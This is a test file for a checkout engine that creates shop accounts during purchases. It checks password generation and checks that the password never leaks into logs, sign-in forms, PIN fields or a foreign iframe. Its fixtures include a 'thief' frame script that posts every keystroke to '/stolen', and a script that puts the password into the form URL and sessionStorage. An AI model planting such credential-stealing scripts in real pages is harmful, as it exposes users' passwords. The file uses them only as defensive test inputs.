import { type Login, LoginSecret } from '@florin/checkout-browser/account/login-secret';
import type { Step } from '@florin/checkout-browser/driver';
import { type FixtureSite, startFixtureSite } from '@florin/checkout-browser/fixture-site.testing';
import { testCards } from '@florin/sandbox/processor/test-cards';
import { NARROW } from '@florin/sandbox/shops/storefront/breadth';
import { isLong } from '@florin/testing/drawn';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createCheckoutEngine } from '../engine.ts';
import {
  anyChoice,
  attemptOf,
  BUYER,
  buy,
  type CheckoutSetup,
  choiceOf,
  quoteFor,
  setUpCheckout,
  walletWith,
} from './checkout-setup.testing.ts';
import { isPlayed } from './drawn-purchases.testing.ts';

let setup: CheckoutSetup;
const sites: FixtureSite[] = [];
beforeAll(async () => {
  setup = await setUpCheckout(1);
});
afterAll(async () => {
  await setup.close();
  for (const site of sites) await site.stop();
});

const WITH_ACCOUNT = { ...BUYER, account: true };

type Account = 'store' | 'membership';
const openShop = (account: Account, more: object = {}) =>
  setup.sandbox.openShop({ kind: 'members-only', layout: { account, ...more } });

async function quoteWithout(url: string) {
  const engine = setup.engine([setup.browserDriver()]);
  const resolved = await engine.resolve(url, setup.context());
  if (resolved.kind !== 'resolved') throw new Error(resolved.detail);
  const offered = await engine.offer(resolved.flow, setup.context());
  if (offered.kind !== 'offered') throw new Error(offered.detail);
  return engine.quote(resolved.flow, choiceOf(anyChoice(offered.offer)), setup.context());
}

const SHOPS = [
  ['membership', 'on one page', { cardEntry: 'inline' }],
  ['store', 'on one page', { cardEntry: 'inline' }],
  ['store', 'beside a frame of the processor', { cardEntry: 'hosted' }],
  ['store', 'before the page of the card', { cardEntry: 'payment-page' }],
  ['membership', 'in the second step', { cardEntry: 'inline', breadth: { ...NARROW, steps: 'two' } }],
  ['store', 'before a review', { cardEntry: 'inline', breadth: { ...NARROW, steps: 'two-and-review' } }],
] as const;

it.runIf(isPlayed('accounts')).concurrent.each(isLong() ? SHOPS : SHOPS.slice(0, 1))(
  'a %s that wants an account %s is refused without the option, and gets one with the order',
  async (account, _where, more) => {
    const shop = await openShop(account, more);
    const url = shop.productUrls[0]!;
    expect(await quoteWithout(url)).toMatchObject({
      kind: 'failed',
      code: 'login_required',
      detail: expect.stringContaining('options.buyer.account'),
    });
    const steps = setup.steps.length;
    const engine = setup.engine([setup.browserDriver()]);
    let quotedAccounts = -1;
    const beforeCommit = () => {
      quotedAccounts = shop.merchant.customers().length;
    };
    const { outcome, wallet } = await buy(setup, engine, url, { buyer: WITH_ACCOUNT, beforeCommit });
    expect(outcome, JSON.stringify(outcome)).toMatchObject({ kind: 'placed' });
    expect([quotedAccounts, wallet.logins.length]).toEqual([0, 1]);
    const [login] = wallet.logins;
    expect(shop.merchant.customers()).toEqual([
      { email: BUYER.email, username: login!.username, password: login!.password },
    ]);
    expect(login!.password.length).toBeGreaterThanOrEqual(20);
    expect(login!.origin).toBe(new URL(url).origin);
    expect(login!.username).toEqual(
      account === 'membership' ? expect.stringMatching(/^ada[a-z0-9]{6}$/) : null,
    );
    expect(JSON.stringify([setup.steps.slice(steps), outcome])).not.toContain(login!.password.slice(0, -1));
  },
);

it.runIf(isLong()).concurrent('a shop that offers an account and demands none makes none', async () => {
  const shop = await setup.sandbox.openShop({ kind: 'one-page' });
  const engine = setup.engine([setup.browserDriver()]);
  const { outcome, wallet } = await buy(setup, engine, shop.productUrls[0]!, { buyer: WITH_ACCOUNT });
  expect([outcome.kind, wallet.logins]).toEqual(['placed', []]);
});

it.runIf(isLong()).concurrent(
  'a declined card leaves the account behind, and the next purchase is told that it exists',
  async () => {
    const shop = await openShop('store');
    const engine = setup.engine([setup.browserDriver()]);
    const wish = { buyer: WITH_ACCOUNT };
    const declined = await buy(setup, engine, shop.productUrls[0]!, { ...wish, card: testCards.declined });
    expect(declined.outcome).toMatchObject({ kind: 'declined' });
    expect(shop.merchant.customers()).toMatchObject([{ password: declined.wallet.logins[0]!.password }]);
    const again = await buy(setup, engine, shop.productUrls[0]!, wish);
    expect(again.outcome, JSON.stringify(again.outcome)).toMatchObject({
      kind: 'not_submitted',
      code: 'details_refused',
      detail: expect.stringContaining('already registered'),
    });
    expect(shop.merchant.customers()).toHaveLength(1);
  },
);

it.runIf(isLong()).concurrent(
  'a purchase that is taken up again enters what was written down the first time',
  async () => {
    const shop = await openShop('membership', { cardEntry: 'inline' });
    const engine = setup.engine([setup.browserDriver()]);
    const { flow, choice, quote } = await quoteFor(setup, engine, shop.productUrls[0]!, {
      buyer: WITH_ACCOUNT,
    });
    const wallet = walletWith();
    const approvedOrigins = [flow.origin];
    const dies = {
      ...wallet.port,
      card: async () => {
        throw new Error('the process died');
      },
    };
    const first = await engine.commit(
      { flow, choice, quote, payment: dies, approvedOrigins },
      setup.context(),
    );
    expect(first.kind).toBe('not_submitted');
    expect([wallet.logins.length, shop.merchant.customers().length]).toEqual([1, 0]);
    const second = await engine.commit(
      { flow, choice, quote, payment: wallet.port, approvedOrigins },
      setup.context(),
    );
    expect(second.kind).toBe('placed');
    expect(shop.merchant.customers()).toMatchObject([
      { username: wallet.logins[0]!.username, password: wallet.logins[0]!.password },
    ]);
  },
);

const IN_GERMAN =
  '<p>Ein Becher aus Emaille, der auch auf dem Feuer und im Ofen nicht zu heiß wird. Wir liefern mit der Post und per Kurier.</p>';
const GERMAN = {
  '/produkt': `${IN_GERMAN}<h1>Becher</h1><meta property="product:price:currency" content="EUR"><p>20,00 €</p>
<form method="post" action="/warenkorb"><button>In den Warenkorb</button></form>`,
  '/warenkorb': `${IN_GERMAN}<h1>Warenkorb</h1><table><tr><td><a href="/produkt">Becher</a></td><td>20,00 €</td></tr></table>
<p>Zwischensumme 20,00 €</p><a href="/kasse">Zur Kasse</a>`,
  '/kasse': `${IN_GERMAN}<h1>Kasse</h1><form method="post" action="/danke"><h2>Konto anlegen</h2>
<label>Benutzername <input name="nutzer" required></label>
<label>Passwort <input type="password" name="pw1" minlength="10" maxlength="14" pattern="[A-Za-z0-9]+" required></label>
<label>Passwort wiederholen <input type="password" name="pw2" maxlength="14" required></label>
<h2>Rechnungsadresse</h2><label>E-Mail <input type="email" name="mail" required></label><label>Vorname <input name="vorname" required></label>
<label>Nachname <input name="nachname" required></label><label>Straße und Hausnummer <input name="strasse" required></label>
<label>PLZ <input name="plz" required></label><label>Ort <input name="ort" required></label>
<h2>Zahlung</h2><label>Kartennummer <input name="karte" autocomplete="cc-number"></label><label>Gültig bis (MM/JJ) <input name="bis" autocomplete="cc-exp"></label>
<table><tr><td><a href="/produkt">Becher</a></td><td>20,00 €</td></tr></table>
<dl><dt>Zwischensumme</dt><dd>20,00 €</dd><dt>Versand</dt><dd>5,00 €</dd><dt>Gesamtsumme</dt><dd>25,00 €</dd></dl>
<button>Zahlungspflichtig bestellen</button></form>`,
  '/danke': `${IN_GERMAN}<h1>Vielen Dank für Ihre Bestellung</h1><p>Ihre Bestellnummer lautet 10042.</p>
<p>Sie erhalten in Kürze eine Bestätigung per E-Mail.</p>`,
};

async function fixture(pages: Record<string, string>) {
  const site = await startFixtureSite(pages);
  sites.push(site);
  return site;
}

function engineFor() {
  return createCheckoutEngine({
    drivers: [setup.browserDriver()],
    policy: setup.policy,
    processorOrigins: [setup.sandbox.processor.url],
    currencies: ['usd', 'eur'],
    boundsMs: { resolve: 90_000, options: 90_000, quote: 90_000 },
  });
}

it.runIf(isLong()).concurrent('a German shop gets a login that fits what its fields take', async () => {
  const site = await fixture(GERMAN);
  const { outcome, wallet } = await buy(setup, engineFor(), `${site.url}/produkt`, { buyer: WITH_ACCOUNT });
  expect(outcome, JSON.stringify(outcome)).toMatchObject({ kind: 'placed' });
  const [{ username, password }] = wallet.logins as [Login];
  expect(password).toMatch(/^[A-Za-z0-9]{14}$/);
  const sent = new URLSearchParams(site.posts.at(-1)!.replace('POST /danke ', ''));
  expect([sent.get('nutzer'), sent.get('pw1'), sent.get('pw2')]).toEqual([username, password, password]);
  expect(sent.get('mail')).toBe(BUYER.email);
});

const PRODUCT = `<h1>Mug</h1><meta property="product:price:currency" content="USD"><p>$20.00</p>
<form method="post" action="/cart"><button>Add to cart</button></form>`;
const CART = `<h1>Your cart</h1><table><tr><td><a href="/product">Mug</a></td><td>$20.00</td></tr></table><p>Subtotal $20.00</p><a href="/checkout">Checkout</a>`;
const SUMS = `<table><tr><td><a href="/product">Mug</a></td><td>$20.00</td></tr></table>
<dl><dt>Subtotal</dt><dd>$20.00</dd><dt>Shipping</dt><dd>$5.00</dd><dt>Total</dt><dd>$25.00</dd></dl>`;
const WHO = `<label>Email <input type="email" name="email" required></label><label>Full name <input name="name" required></label>
<label>Address <input name="street" required></label><label>City <input name="city" required></label><label>Postal code <input name="zip" required></label>`;
const CARD = `<label>Card number <input name="number" autocomplete="cc-number"></label><label>Expiry (MM/YY) <input name="expiry" autocomplete="cc-exp"></label>`;

const checkoutWith = (account: string, more = '') =>
  `<h1>Checkout</h1><form method="post" action="/done">${WHO}${account}${CARD}${SUMS}<button>Place order</button></form>${more}`;
const shopOf = (checkout: string, done = '<h1>Thank you for your order</h1><p>Order number 10042</p>') => ({
  '/product': PRODUCT,
  '/cart': CART,
  '/checkout': checkout,
  '/done': done,
});

const NEW = '<label>Password <input type="password" name="pw" required></label>';

it.runIf(isLong()).concurrent(
  'a shop that repeats the password everywhere finds it nowhere in what is kept',
  async () => {
    const repeat = `<script>document.querySelector('form').addEventListener('submit', (event) => {
const pw = event.target.elements.pw.value; sessionStorage.pw = pw;
event.target.action = '/done?password=' + encodeURIComponent(pw) + '&again=' + pw.toUpperCase(); });</script>`;
    const done = `<h1>Thank you for your order</h1><p>Order number <b id="n"></b></p><p id="p"></p><p>We sent a receipt to your email.</p>
<script>n.textContent = sessionStorage.pw; p.textContent = 'Your password is ' + sessionStorage.pw; document.title = sessionStorage.pw;</script>`;
    const site = await fixture(shopOf(checkoutWith(NEW, repeat), done));
    const steps: Step[] = [];
    const engine = engineFor();
    const { flow, choice, quote } = await quoteFor(setup, engine, `${site.url}/product`, {
      buyer: WITH_ACCOUNT,
    });
    const wallet = walletWith();
    const context = { ...setup.context(), log: (step: Step) => void steps.push(step) };
    const input = { flow, choice, quote, payment: wallet.port, approvedOrigins: [flow.origin] };
    const outcome = await engine.commit(input, context);
    const { password } = wallet.logins[0]!;
    expect(site.posts.at(-1)).toContain(`pw=${encodeURIComponent(password).replace('!', '%21')}`);
    const kept = JSON.stringify([steps, outcome, wallet.armings]).toLowerCase();
    expect(kept).not.toContain(password.slice(0, -1).toLowerCase());
    const secret = new LoginSecret(wallet.logins[0]!);
    const attempt = { ...attemptOf(choice, quote, wallet), login: secret };
    const looked = await engine.reconcile(flow, attempt, context);
    expect(JSON.stringify([steps, looked]).toLowerCase()).not.toContain(password.slice(0, -1).toLowerCase());
    const login = steps.findIndex(({ name }) => name === 'account_entry');
    expect(login).toBeGreaterThan(-1);
    expect(steps.slice(login).filter(({ screenshot }) => screenshot !== undefined)).toEqual([]);
  },
);

it.runIf(isLong()).concurrent.each([
  [
    'a sign-in beside the order',
    `<label>Password <input type="password" name="pw" autocomplete="current-password" required></label>`,
  ],
  [
    'a secret of another kind',
    `<label>Online banking PIN <input type="password" name="pin" required></label>`,
  ],
])('%s gets nothing, with the option or without', async (_name, field) => {
  const site = await fixture(shopOf(checkoutWith(field)));
  const engine = engineFor();
  const resolved = await engine.resolve(`${site.url}/product`, setup.context());
  if (resolved.kind !== 'resolved') throw new Error(resolved.detail);
  for (const buyer of [BUYER, WITH_ACCOUNT])
    expect(await engine.quote(resolved.flow, { ...choiceOf(), buyer }, setup.context())).toMatchObject({
      kind: 'failed',
      code: 'login_required',
      detail: expect.stringContaining('not clearly for that of a new account'),
    });
  expect(site.posts).toEqual(['POST /cart ', 'POST /cart ']);
});

it.runIf(isLong()).concurrent('a page that turns into a sign-in after the quote gets nothing', async () => {
  const site = await fixture(shopOf(checkoutWith(NEW)));
  const beforeCommit = () =>
    site.show('/checkout', checkoutWith(NEW.replace('type=', 'autocomplete="current-password" type=')));
  const wish = { buyer: WITH_ACCOUNT, beforeCommit };
  const { outcome, wallet } = await buy(setup, engineFor(), `${site.url}/product`, wish);
  expect(outcome).toMatchObject({ kind: 'not_submitted', code: 'login_required' });
  expect([wallet.logins, wallet.armings]).toEqual([[], []]);
});

it.runIf(isLong()).concurrent('an account that is wanted before the payment is not made', async () => {
  const first = `<h1>Checkout</h1><form method="post" action="/pay">${WHO}${NEW}<button>Continue to payment</button></form>`;
  const site = await fixture({ ...shopOf(first), '/pay': checkoutWith('') });
  const engine = engineFor();
  const resolved = await engine.resolve(`${site.url}/product`, setup.context());
  if (resolved.kind !== 'resolved') throw new Error(resolved.detail);
  for (const [buyer, words] of [
    [WITH_ACCOUNT, 'only together with the order'],
    [BUYER, 'options.buyer.account'],
  ] as const)
    expect(await engine.quote(resolved.flow, { ...choiceOf(), buyer }, setup.context())).toMatchObject({
      kind: 'failed',
      code: 'login_required',
      detail: expect.stringContaining(words),
    });
  expect(site.posts).toEqual(['POST /cart ', 'POST /cart ']);
});

it.runIf(isLong()).concurrent('a frame of another site that asks for a password gets none', async () => {
  const thief = await fixture({
    '/': `<form method="post" action="/stolen"><label>Password <input type="password" name="pw" autocomplete="new-password" required></label></form>
<script>addEventListener('input', (event) => fetch('/stolen', { method: 'POST', body: event.target.value }));</script>`,
  });
  const frame = `<iframe src="${thief.url.replace('localhost', '127.0.0.1')}/" width="400" height="200"></iframe>`;
  const site = await fixture(shopOf(checkoutWith(NEW, frame)));
  const { outcome, wallet } = await buy(setup, engineFor(), `${site.url}/product`, { buyer: WITH_ACCOUNT });
  expect(outcome.kind, JSON.stringify(outcome)).toBe('placed');
  expect([wallet.logins.length, thief.posts]).toEqual([1, []]);
});

/** As software for memberships does it: no cart, no marks on what must be filled in, the account first. */
const MEMBERSHIP = `<title>Membership checkout</title><h1>Membership checkout</h1><form method="post" action="/welcome">
<h2>Membership information</h2><p>You have selected the <b>Reader</b> membership level.</p><p>The price for membership is <b>$12.00</b> now.</p>
<h2>Account information</h2><p>Already have an account? <a href="/login">Log in here</a></p>
<label>Username <input name="username"></label><label>Password <input type="password" name="password"></label>
<label>Confirm password <input type="password" name="password2"></label><label>Email address <input name="bemail"></label>
<label>Confirm email address <input name="bconfirmemail"></label>
<h2>Payment information</h2><label>Card number <input name="AccountNumber" autocomplete="cc-number"></label><label>Expiry <input name="e" autocomplete="cc-exp"></label>
<label>Security code <input name="c" autocomplete="cc-csc"></label><p>Total: $12.00</p><button>Submit and check out</button></form>`;

it.runIf(isLong()).concurrent('a membership is bought on its one page, with its account', async () => {
  const welcome =
    '<h1>Thank you for your membership</h1><p>Order number 4711. We sent a receipt to your email.</p>';
  const site = await fixture({ '/join': MEMBERSHIP, '/welcome': welcome });
  const { quote, outcome, wallet } = await buy(setup, engineFor(), `${site.url}/join`, {
    buyer: WITH_ACCOUNT,
  });
  expect([quote.amount, outcome.kind], JSON.stringify(outcome)).toEqual([1_200, 'placed']);
  const sent = new URLSearchParams(site.posts[0]!.replace('POST /welcome ', ''));
  const [{ username, password }] = wallet.logins as [Login];
  expect([sent.get('username'), sent.get('password'), sent.get('password2')]).toEqual([
    username,
    password,
    password,
  ]);
  expect([sent.get('bemail'), sent.get('bconfirmemail'), site.posts.length]).toEqual([
    BUYER.email,
    BUYER.email,
    1,
  ]);
});
